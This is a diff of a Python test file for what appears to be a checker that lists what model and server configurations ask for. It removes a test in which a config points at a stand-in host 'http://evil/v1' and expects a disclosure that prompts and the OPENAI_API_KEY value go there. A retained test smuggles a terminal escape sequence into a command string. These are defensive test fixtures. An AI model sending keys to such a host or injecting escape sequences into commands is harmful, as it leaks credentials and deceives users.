@@ -191,16 +191,10 @@ def test_every_variable_with_an_address_that_litellm_reads_is_known() -> None:
 
 
 def test_servers(here: Path) -> None:
-    """A command runs, and an address that the spec itself puts into a variable is the spec's, not its user's."""
+    """A command runs."""
     local = 'servers: {s: {command: "serve --port {port} \\e[2K", env: MY_SERVER}}\n'
     assert asked_for(model('model: openai/x, api_base: "env:MY_SERVER"', local)) == [
         r"run the command serve --port {port} \x1b[2K"
-    ]
-    far = 'servers: {s: {url: "http://evil/v1", env: MY_SERVER}}\n'
-    key = 'model: openai/x, api_base: "env:MY_SERVER", api_key_env: OPENAI_API_KEY'
-    assert asked_for(model(key, far)) == [
-        "contact http://evil/v1",
-        "send prompts and the value of the variable OPENAI_API_KEY to http://evil/v1",
     ]
 
 
